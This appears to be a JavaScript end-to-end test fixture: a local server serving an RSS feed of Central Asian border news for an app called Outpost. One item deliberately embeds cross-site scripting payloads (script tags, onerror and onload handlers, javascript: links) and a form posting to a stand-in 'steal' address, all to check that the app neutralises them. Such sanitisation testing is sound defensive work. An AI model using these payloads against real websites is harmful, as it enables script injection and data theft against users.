// A fixture feed server on 127.0.0.1 for the end-to-end specs. It serves a
// regional RSS feed whose items the specs' watchlists match, including one
// hostile item whose payloads must never execute in the app.
import http from "node:http";

export const BORDER_TITLE = "Clashes reported on the Tajik-Afghan border near Khorog";
export const OTHER_TITLE = "Tajik Afghan border crossing at Panji Poyon reopens for trade";
export const HOSTILE_TITLE = "Tajik-Afghan border: hostile markup test";

function rss(base) {
  const hostile = `
    <p>Border guards said <b>three</b> people were hurt.</p>
    <script>window.__outpostPwned = "script";</script>
    <img src="x" onerror="window.__outpostPwned = 'onerror'">
    <a href="javascript:window.__outpostPwned='href'">click</a>
    <iframe src="javascript:window.parent.__outpostPwned='iframe'"></iframe>
    <svg onload="window.__outpostPwned='svg'"><circle r="4"/></svg>
    <form action="https://example.invalid/steal"><input name="q"></form>`;
  const now = new Date().toUTCString();
  return `<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0">
<channel>
  <title>Khatlon Fixture Wire</title>
  <link>${base}/</link>
  <description>Fixture feed for Outpost's end-to-end tests</description>
  <item>
    <title>${BORDER_TITLE}</title>
    <link>${base}/news/1</link>
    <guid>fixture-1</guid>
    <pubDate>${now}</pubDate>
    <description>Border guards exchanged fire with smugglers on the Tajik-Afghan border overnight, officials in Khorog said.</description>
  </item>
  <item>
    <title>${OTHER_TITLE}</title>
    <link>${base}/news/2</link>
    <guid>fixture-2</guid>
    <pubDate>${now}</pubDate>
    <description>Traders welcomed the reopening of the Tajik–Afghan border crossing after two weeks.</description>
  </item>
  <item>
    <title>${HOSTILE_TITLE}</title>
    <link>${base}/news/3</link>
    <guid>fixture-3</guid>
    <pubDate>${now}</pubDate>
    <description><![CDATA[${hostile}]]></description>
  </item>
  <item>
    <title>Uzbekistan opens new rail terminal in Termez</title>
    <link>${base}/news/4</link>
    <guid>fixture-4</guid>
    <pubDate>${now}</pubDate>
    <description>The terminal will handle cargo bound for Mazar-i-Sharif.</description>
  </item>
</channel>
</rss>`;
}

/** Starts the server; resolves to { url, close }. */
export function startFeedServer() {
  return new Promise((resolve) => {
    const server = http.createServer((req, res) => {
      const base = `http://127.0.0.1:${server.address().port}`;
      if (req.url === "/feed.xml") {
        res.writeHead(200, { "content-type": "application/rss+xml; charset=utf-8" });
        res.end(rss(base));
      } else if (req.url === "/") {
        res.writeHead(200, { "content-type": "text/html; charset=utf-8" });
        res.end(`<html><head><title>Khatlon Fixture Wire</title>
          <link rel="alternate" type="application/rss+xml" href="/feed.xml"></head><body>News</body></html>`);
      } else {
        res.writeHead(404);
        res.end();
      }
    });
    server.listen(0, "127.0.0.1", () => {
      const url = `http://127.0.0.1:${server.address().port}`;
      resolve({ url, feedUrl: `${url}/feed.xml`, close: () => new Promise((r) => server.close(r)) });
    });
  });
}
